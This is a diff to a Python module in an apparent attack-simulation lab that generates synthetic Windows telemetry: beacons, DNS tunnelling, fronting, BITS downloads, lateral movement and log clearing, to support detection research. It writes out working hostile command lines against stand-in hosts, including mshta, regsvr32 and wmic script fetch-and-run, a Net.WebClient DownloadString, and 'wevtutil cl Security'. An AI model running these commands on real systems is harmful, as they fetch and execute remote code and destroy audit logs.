@@ -1,23 +1,42 @@
-"""What the attacker does."""
+"""What the attacker does; every process, look-up and connection of it carries the name of the attack."""
 
 from __future__ import annotations
 
 from base64 import b64encode
+from typing import Final
 
 from trackway.lab.world import machine as m
-from trackway.lab.world.facts import Process
+from trackway.lab.world.facts import Image, Job, Process, Site, Turn
 from trackway.lab.world.host import Host
-from trackway.lab.world.office import command
+from trackway.lab.world.machine import SYSTEM32, system32
+from trackway.lab.world.office import HOUR, HTTP, HTTPS, MINUTE, command, open_to, reach
+from trackway.lab.world.resolver import is_answer
 from trackway.lab.world.schedule import Program
 
-SEED_URL = "http://perdu.com"
+SEED_URL: Final = "http://perdu.com"
+SITES: Final = (
+    Site("sync.example.org", ("198.51.100.201",), 300),
+    Site("assets.example.org", ("203.0.113.3", "203.0.113.4"), 60, ("assets.cdn.example.net",)),
+    Site("get.example.net", ("203.0.113.5",), 120, ("get.cdn.example.net",)),
+    Site("scripts.example.com", ("198.51.100.202",), 600),
+    Site("vpn.example.org", ("192.0.2.200",), 3600),
+    Site("ns.tunnel.example.net", ("192.0.2.201",), 3600),
+)
+"""Names that only attacks, and a VPN, use."""
+
+LITERAL: Final = "192.0.2.211"
+"""An address that stands in the attacker's code."""
+
+CMD: Final = system32("cmd.exe", "Windows Command Processor")
+IMPLANT: Final = "\\AppData\\Roaming\\Sync\\syncsvc.exe"
 
 
 def macro(host: Host, shell: Process, url: str = SEED_URL) -> Program:
     """The seed's story: a workbook from a mail starts an encoded PowerShell that fetches a page."""
     outlook = host.services.get("outlook", shell)
     folder = f"C:\\Users\\{host.machine.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7KX1Z3D"
-    excel = host.start(outlook, m.EXCEL, f'"{m.EXCEL.path}" "{folder}\\Invoice 11-2021.xlsm"')
+    line = f'"{m.EXCEL.path}" "{folder}\\Invoice 11-2021.xlsm"'
+    excel = host.start(outlook, m.EXCEL, line, attack="macro")
     yield 9.8
     yield from fetch(host, excel, url)
     yield 240.0
@@ -37,8 +56,194 @@ def fetch(host: Host, parent: Process, url: str) -> Program:
     name = url.split("//", maxsplit=1)[1].split("/", maxsplit=1)[0]
     lookup = yield from host.resolve(shell, name)
     yield 0.0041
-    host.connect(shell, lookup.addresses[0], 80, lookup, seconds=5)
+    if is_answer(lookup):
+        host.connect(shell, lookup.addresses[0], HTTP, lookup, seconds=5)
     yield 1.2
     host.run_script(shell, "pipeline", text, "Invoke-WebRequest")
     yield 0.4
     host.end(shell)
+
+
+def implant(host: Host, shell: Process, attack: str) -> Process:
+    """Start the attacker's program, which the Run key brings back at each logon."""
+    image = Image(f"C:\\Users\\{host.machine.user}{IMPLANT}", "-", "-")
+    return host.start(shell, image, f'"{image.path}"', attack=attack)
+
+
+def beacon(host: Host, shell: Process) -> Program:
+    """Call home again and again: every minute to every twelve hours, with jitter, some in working hours only."""
+    process = implant(host, shell, "beacon")
+    period = host.dice.pick((60.0, 300.0, 900.0, HOUR, 12 * HOUR))
+    jitter = host.dice.pick((0.0, 0.1, 0.25, 0.5))
+    while True:
+        yield from reach(host, process, "sync.example.org", seconds=2)
+        yield period * (1 + host.dice.between(-jitter, jitter))
+
+
+def short_beacon(host: Host, _: Process) -> Program:
+    """A beacon whose process a scheduled task starts each time, and which has gone a second later."""
+    while True:
+        process = host.start(
+            host.services["Schedule"], m.POWERSHELL, "powershell.exe -File C:\\ProgramData\\u.ps1", host.user,
+            attack="short_beacon",
+        )  # fmt: skip
+        yield 0.4
+        host.run_script(
+            process, "block", "(New-Object Net.WebClient).DownloadString('https://scripts.example.com/u')"
+        )
+        yield from reach(host, process, "scripts.example.com", seconds=0.5)
+        yield 0.3
+        host.end(process)
+        yield host.dice.between(4 * MINUTE, 6 * MINUTE)
+
+
+def tunnel(host: Host, shell: Process) -> Program:
+    """Carry data in the labels of names: look-ups, and no connection after them."""
+    process = implant(host, shell, "tunnel")
+    while True:
+        for _ in range(host.dice.whole(5, 40)):
+            label = host.dice.hexadecimal(48).lower()
+            yield from host.resolve(process, f"{label}.tunnel.example.net", both=False)
+            yield host.dice.between(0.05, 0.4)
+        yield host.dice.exponential(5 * MINUTE)
+
+
+def literal(host: Host, shell: Process) -> Program:
+    """Connect to an address without asking for any name."""
+    process = implant(host, shell, "literal")
+    while True:
+        host.connect(process, LITERAL, 8443, via="literal", seconds=3)
+        yield host.dice.between(3 * MINUTE, 9 * MINUTE)
+
+
+def fronting(host: Host, shell: Process) -> Program:
+    """Ask for a name behind a content network whose addresses many names share."""
+    process = implant(host, shell, "fronting")
+    while True:
+        yield from reach(host, process, "assets.example.org", seconds=4)
+        yield host.dice.between(2 * MINUTE, 8 * MINUTE)
+
+
+def bits(host: Host, shell: Process) -> Program:
+    """Let the transfer service fetch a file: the socket and the look-up are the service's."""
+    while True:
+        yield host.dice.exponential(20 * MINUTE)
+        prompt = command(host, shell, CMD, "cmd.exe /c update.cmd")
+        prompt.attack = "bits"
+        target, url = "C:\\Users\\Public\\get.bin", "https://get.example.net/get.bin"
+        line = f"bitsadmin.exe /transfer Get /priority foreground {url} {target}"
+        owner = host.start(prompt, system32("bitsadmin.exe", "BITS administration utility"), line)
+        begun = host.now
+        yield 0.35
+        lookup = yield from host.resolve(host.services["BITS"], "get.example.net")
+        yield from open_to(host, host.services["BITS"], lookup, HTTPS, requester=owner, seconds=4)
+        yield 2.5
+        host.tell(
+            Job(
+                host.key("j"),
+                owner,
+                host.services["BITS"],
+                begun + 200_000,
+                host.now,
+                "Get",
+                url,
+                target,
+                48_128,
+            )
+        )
+        host.end(owner)
+        host.end(prompt)
+
+
+def squiblydoo(host: Host, shell: Process) -> Program:
+    """Signed programs that fetch and run a script: mshta, regsvr32, wmic."""
+    url = "https://scripts.example.com/x.sct"
+    lines = {
+        "mshta.exe": f'mshta.exe javascript:a=GetObject("script:{url}").Exec();close();',
+        "regsvr32.exe": f"regsvr32.exe /s /n /u /i:{url} scrobj.dll",
+        "wbem\\WMIC.exe": f'wmic.exe os get /FORMAT:"{url}"',
+    }
+    while True:
+        yield host.dice.exponential(15 * MINUTE)
+        name = host.dice.pick(tuple(lines))
+        prompt = command(host, shell, CMD, "cmd.exe")
+        tool = host.start(prompt, Image(SYSTEM32 + name), lines[name], attack="squiblydoo")
+        yield 0.4
+        yield from reach(host, tool, "scripts.example.com", seconds=1)
+        yield host.dice.between(0.2, 2)
+        host.end(tool)
+        host.end(prompt)
+
+
+def injected(host: Host, _: Process) -> Program:
+    """Code in a process of Windows: its traffic is that process's, its name nobody else asks for."""
+    line = "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Themes"
+    victim = host.start(host.services["services"], m.SVCHOST, line)
+    while True:
+        yield host.dice.between(4 * MINUTE, 12 * MINUTE)
+        lookup = yield from host.resolve(victim, "sync.example.org")
+        if is_answer(lookup):
+            yield 0.004
+            host.connect(victim, lookup.addresses[0], HTTPS, lookup, attack="injected", seconds=3)
+
+
+def pipe(host: Host, shell: Process) -> Program:
+    """An implant that speaks by a named pipe only; another process connects for it."""
+    inner = implant(host, shell, "pipe")
+    relay = host.start(shell, system32("dllhost.exe", "COM Surrogate"), "", attack="pipe")
+    while True:
+        yield host.dice.between(3 * MINUTE, 9 * MINUTE)
+        yield from reach(host, relay, "sync.example.org", requester=inner, seconds=2)
+
+
+def proxied(host: Host, shell: Process) -> Program:
+    """An implant that goes by the proxy where there is one."""
+    process = implant(host, shell, "proxied")
+    while True:
+        yield from reach(host, process, "sync.example.org", seconds=2)
+        yield host.dice.between(2 * MINUTE, 6 * MINUTE)
+
+
+def clear_traces(host: Host, shell: Process) -> Program:
+    """Clear the Security log, once."""
+    yield host.dice.between(30 * MINUTE, 90 * MINUTE)
+    prompt = command(host, shell, CMD, "cmd.exe")
+    prompt.attack = "clear_traces"
+    tool = host.start(
+        prompt, system32("wevtutil.exe", "Eventing Command Line Utility"), "wevtutil cl Security"
+    )
+    yield 0.2
+    host.tell(Turn(host.now, "clear"))
+    host.end(tool)
+    host.end(prompt)
+
+
+def lateral(host: Host, shell: Process) -> Program:
+    """To the next host: SMB by the kernel, WinRM, RDP, DCOM."""
+    name = f"files.{host.machine.domain}"
+    while True:
+        yield host.dice.exponential(25 * MINUTE)
+        tool = command(host, shell, m.POWERSHELL, "powershell.exe -NoP -ep bypass")
+        tool.attack = "lateral"
+        lookup = yield from host.resolve(tool, name)
+        if is_answer(lookup):
+            yield from _lateral_steps(host, tool, lookup.addresses[-1], name)
+        yield 20.0
+        host.end(tool)
+
+
+def _lateral_steps(host: Host, tool: Process, address: str, name: str) -> Program:
+    lookup = yield from host.resolve(tool, name)
+    host.connect(host.services["System"], address, 445, lookup, requester=tool, attack="lateral")
+    yield 1.0
+    host.connect(tool, address, 5985, lookup)
+    yield 1.0
+    host.connect(tool, address, 135, lookup)
+    yield 0.05
+    host.connect(tool, address, 49_671, lookup)
+    client = host.start(tool, system32("mstsc.exe", "Remote Desktop Connection"), f"mstsc.exe /v:{name}")
+    lookup = yield from host.resolve(client, name)
+    yield 0.2
+    host.connect(client, address, 3389, lookup, seconds=60)
+    yield 30.0
+    host.end(client)
